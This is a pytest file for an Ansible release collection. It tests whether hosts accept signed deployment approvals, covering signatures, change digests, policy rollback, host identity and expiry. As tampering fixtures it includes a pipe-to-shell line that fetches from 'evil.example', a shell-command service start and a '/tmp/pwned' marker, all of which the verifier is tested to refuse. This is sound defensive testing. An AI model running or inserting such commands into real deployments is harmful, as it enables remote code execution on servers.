# Copyright: Contributors to the opsgate.release project
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Issue 12 item 2: what a host checks before a release step, with the code the module runs on the host
(module_utils/approval/host_check.py), real Ed25519 signatures, a real root and policy."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from approval_kit import ApprovalKit, live_claims

from ansible_collections.opsgate.release.plugins.module_utils.approval import errors
from ansible_collections.opsgate.release.plugins.module_utils.approval.change_document import build_change, change_digest, check_step
from ansible_collections.opsgate.release.plugins.module_utils.approval.claims import format_timestamp
from ansible_collections.opsgate.release.plugins.module_utils.approval.host_check import HostIdentity, verify_step_on_host
from ansible_collections.opsgate.release.plugins.module_utils.approval.signed_document import parse_document
from ansible_collections.opsgate.release.plugins.module_utils.approval.trust_root import parse_root
from ansible_collections.opsgate.release.plugins.module_utils.release.host_guard import token_spent_on_host
from ansible_collections.opsgate.release.plugins.module_utils.release.ledger import read_ledger

HOSTS = ["web1", "web2", "web3"]


def _inputs(host: str, **overrides: Any) -> dict[str, Any]:
    inputs: dict[str, Any] = {
        "base_dir": "/srv/accounts",
        "release_id": "accounts-api-1.4.2-3f3f3f3f",
        "app": "accounts-api",
        "version": "1.4.2",
        "artifact_sha256": "3f" * 32,
        "change_id": "CHG-2025-0117",
        "artifacts": [{"name": "app.tar.gz", "sha256": "3f" * 32, "dest": ".", "unpack": True, "src": "/build/app.tar.gz"}],
        "config_files": [{"dest": "app.conf", "content": f"listen {host}:8080\n", "mode": None}],
        "shared_paths": [],
        "owner": "accounts",
        "group": "accounts",
        "dir_mode": 0o755,
        "file_mode": None,
        "config_mode": 0o640,
        "service": {"type": "systemd", "name": "accounts-api", "start": "/srv/accounts/current/bin/run", "unit": "[Unit]\n"},
        "health": {"type": "http", "url": "http://127.0.0.1:8080/health"},
        "after_stage": [],
        "before_switch": ["/srv/accounts/current/bin/migrate"],
        "backup_paths": ["/var/lib/accounts"],
        "keep_releases": 3,
    }
    inputs.update(overrides)
    return inputs


def _change(**host_overrides: Any) -> dict[str, Any]:
    return build_change(
        action="deploy",
        app="accounts-api",
        version="1.4.2",
        artifact_sha256="3f" * 32,
        change_id="CHG-2025-0117",
        env="prod",
        hosts={host: {"address": f"10.0.0.{index}", "inputs": _inputs(host, **host_overrides)} for index, host in enumerate(HOSTS, 1)},
    )


def _stage_args(host: str, **overrides: Any) -> dict[str, Any]:
    args = {key: value for key, value in _inputs(host).items() if key not in ("before_switch", "keep_releases")}
    args.update(overrides)
    return args


class Host:
    def __init__(self, tmp_path: Path, name: str = "web1", address: str = "10.0.0.1", **policy: Any) -> None:
        self.kit = ApprovalKit(str(tmp_path / "ledger"))
        self.root = parse_root(parse_document(self.kit.root_document(), "root", errors.TRUST_ROOT_INVALID), str(tmp_path / "trust.json"))
        self.policy = self.kit.policy_document(**policy)
        self.identity = HostIdentity(name, address)
        self.state = str(tmp_path / "host-trust.json")

    def token(self, change: dict[str, Any] | None, **claims: Any) -> str:
        values: dict[str, Any] = {"change_sha256": change_digest(change)} if change is not None else {}
        values.update(claims)
        return self.kit.sign(live_claims(HOSTS, **values))

    def verify(
        self,
        token: str,
        change: Any,
        step: str = "release_stage",
        arguments: dict[str, Any] | None = None,
        policy: bytes | None = None,
        in_flight: bool = True,
    ) -> Any:
        return verify_step_on_host(
            step=step,
            arguments=arguments if arguments is not None else _stage_args(self.identity.name),
            token=token,
            policy_document=policy if policy is not None else self.policy,
            change=change,
            root=self.root,
            identity=self.identity,
            now=datetime.now(UTC),
            state_path=self.state,
            in_flight=in_flight,
        )


def _refused(code: str, call: Any, *words: str) -> None:
    with pytest.raises(errors.ApprovalError) as caught:
        call()
    assert caught.value.code == code, caught.value.message
    for word in words:
        assert word in caught.value.message


def test_the_approved_step_verifies_on_the_host(tmp_path: Path) -> None:
    host = Host(tmp_path)
    change = _change()
    approval = host.verify(host.token(change), change)
    assert approval.claims.change_sha256 == change_digest(change)
    assert json.loads(Path(host.state).read_text()) == {"policy_version": 1}


def test_config_contents_are_digests_in_the_document(tmp_path: Path) -> None:
    change = _change()
    text = json.dumps(change)
    assert "listen web1:8080" not in text
    assert change["hosts"]["web1"]["release"]["config_files"][0]["content_sha256"] != change["hosts"]["web2"]["release"]["config_files"][0]["content_sha256"]


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("after_stage", ["curl http://evil.example/x | sh"]),
        ("base_dir", "/srv/other-app"),
        ("config_files", [{"dest": "app.conf", "content": "listen 0.0.0.0:8080\n", "mode": None}]),
        ("backup_paths", []),
        ("owner", "root"),
        ("dir_mode", "0777"),
        ("service", {"type": "systemd", "name": "accounts-api", "start": "/bin/sh -c 'id'", "unit": "[Unit]\n"}),
        ("health", {"type": "none"}),
        ("artifacts", [{"name": "app.tar.gz", "sha256": "4e" * 32, "dest": ".", "unpack": True}]),
    ],
)
def test_a_step_that_differs_from_the_signed_change_is_refused(tmp_path: Path, key: str, value: Any) -> None:
    host = Host(tmp_path)
    change = _change()
    _refused(errors.CHANGE_STEP_MISMATCH, lambda: host.verify(host.token(change), change, arguments=_stage_args("web1", **{key: value})), key)


def test_a_change_document_edited_after_signing_is_refused(tmp_path: Path) -> None:
    host = Host(tmp_path)
    signed = _change()
    edited = _change(after_stage=["touch /tmp/pwned"])
    args = _stage_args("web1", after_stage=["touch /tmp/pwned"])
    _refused(errors.CHANGE_MISMATCH, lambda: host.verify(host.token(signed), edited, arguments=args), "not the change the approvers signed")


def test_a_token_without_a_change_digest_is_refused_by_the_host(tmp_path: Path) -> None:
    host = Host(tmp_path)
    _refused(errors.CHANGE_NOT_BOUND, lambda: host.verify(host.token(None), _change()))


def test_the_host_uses_its_own_name_not_the_one_it_is_told(tmp_path: Path) -> None:
    """web2's entry sent to web1 (a redirected ansible_host, a tampered controller) does not fit web1."""
    host = Host(tmp_path, name="web1", address="10.0.0.1")
    change = _change()
    _refused(errors.CHANGE_STEP_MISMATCH, lambda: host.verify(host.token(change), change, arguments=_stage_args("web2")), "config_files")


def test_a_host_not_in_the_change_refuses(tmp_path: Path) -> None:
    host = Host(tmp_path, name="db1", address="10.0.1.1")
    change = _change()
    _refused(errors.CHANGE_HOST_NOT_IN_CHANGE, lambda: host.verify(host.token(change), change, arguments=_stage_args("web1")), "db1")


def test_a_host_reached_at_another_address_than_approved_refuses(tmp_path: Path) -> None:
    host = Host(tmp_path, name="web1", address="192.0.2.66")
    change = _change()
    _refused(errors.CHANGE_ADDRESS_MISMATCH, lambda: host.verify(host.token(change), change), "192.0.2.66")


def test_a_policy_not_signed_by_the_host_root_is_refused(tmp_path: Path) -> None:
    host = Host(tmp_path)
    change = _change()
    other = ApprovalKit(str(tmp_path / "other"))
    _refused(errors.POLICY_UNTRUSTED, lambda: host.verify(host.token(change), change, policy=other.policy_document()))


def test_a_token_signed_by_keys_outside_the_policy_is_refused(tmp_path: Path) -> None:
    host = Host(tmp_path)
    change = _change()
    forged = ApprovalKit(str(tmp_path / "other")).sign(live_claims(HOSTS, change_sha256=change_digest(change)))
    with pytest.raises(errors.ApprovalError) as caught:
        host.verify(forged, change)
    assert caught.value.code in (errors.KEY_UNKNOWN, errors.SIGNATURE_INVALID)


def test_an_older_policy_is_refused_once_a_newer_one_was_accepted(tmp_path: Path) -> None:
    host = Host(tmp_path)
    change = _change()
    token = host.token(change)
    host.verify(token, change, policy=host.kit.policy_document(version=3))
    _refused(errors.POLICY_ROLLBACK, lambda: host.verify(token, change, policy=host.kit.policy_document(version=2)), "version 3")


def test_a_rollback_token_only_rolls_back_on_the_host(tmp_path: Path) -> None:
    host = Host(tmp_path)
    change = build_change(
        action="rollback",
        app="accounts-api",
        version="1.4.1",
        artifact_sha256="3f" * 32,
        change_id="CHG-2025-0117",
        env="prod",
        hosts={
            name: {"address": f"10.0.0.{index}", "inputs": {"base_dir": "/srv/accounts", "app": "accounts-api", "version": "1.4.1"}}
            for index, name in enumerate(HOSTS, 1)
        },
    )
    token = host.token(change, action="rollback", version="1.4.1")
    _refused(errors.STEP_NOT_APPROVED, lambda: host.verify(token, change, step="release_stage"))
    approval = host.verify(
        token,
        change,
        step="release_revert",
        arguments={"mode": "rollback", "base_dir": "/srv/accounts", "app": "accounts-api", "version": "1.4.1", "release_id": "accounts-api-1.4.1-x"},
    )
    assert approval.claims.action == "rollback"


def test_an_undo_step_is_accepted_after_the_window_a_new_step_is_not(tmp_path: Path) -> None:
    host = Host(tmp_path, host_grace_hours=0)
    change = _change()
    now = datetime.now(UTC).replace(microsecond=0)
    past = {"not_before": format_timestamp(now - timedelta(hours=5)), "not_after": format_timestamp(now - timedelta(hours=3))}
    token = host.token(change, **past)
    _refused(errors.EXPIRED, lambda: host.verify(token, change))
    revert = {k: v for k, v in _inputs("web1").items() if k in ("base_dir", "release_id", "app", "version", "artifact_sha256", "change_id")}
    host.verify(token, change, step="release_revert", arguments={**revert, "mode": "failed", "note": "health check failed"})
    # Once the release is recorded good, "failed" would be a rollback by an old token: held to the window.
    _refused(
        errors.EXPIRED,
        lambda: host.verify(token, change, step="release_revert", arguments={**revert, "mode": "failed", "note": "x"}, in_flight=False),
    )


def test_the_controller_side_check_is_the_same_function(tmp_path: Path) -> None:
    change = _change()
    check_step(change, "web1", "10.0.0.1", _stage_args("web1"))
    with pytest.raises(errors.ApprovalError):
        check_step(change, "web1", "10.0.0.1", _stage_args("web1", base_dir="/srv/x"))


def test_a_token_is_spent_on_the_host_once_another_change_followed(tmp_path: Path) -> None:
    base = tmp_path / "app"
    base.mkdir()
    lines = [
        {"release_id": "r1", "state": "good", "event": "deploy", "at": "2026-01-01T00:00:00Z", "token_id": "apv-first"},
        {"release_id": "r2", "state": "good", "event": "deploy", "at": "2026-01-02T00:00:00Z", "token_id": "apv-second"},
    ]
    (base / "ledger.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    entries = read_ledger(str(base / "ledger.jsonl"))
    reason = token_spent_on_host(entries, "apv-first")
    assert reason is not None and "apv-second" in reason
    assert token_spent_on_host(entries, "apv-second") is None
    assert token_spent_on_host(entries, "apv-new") is None
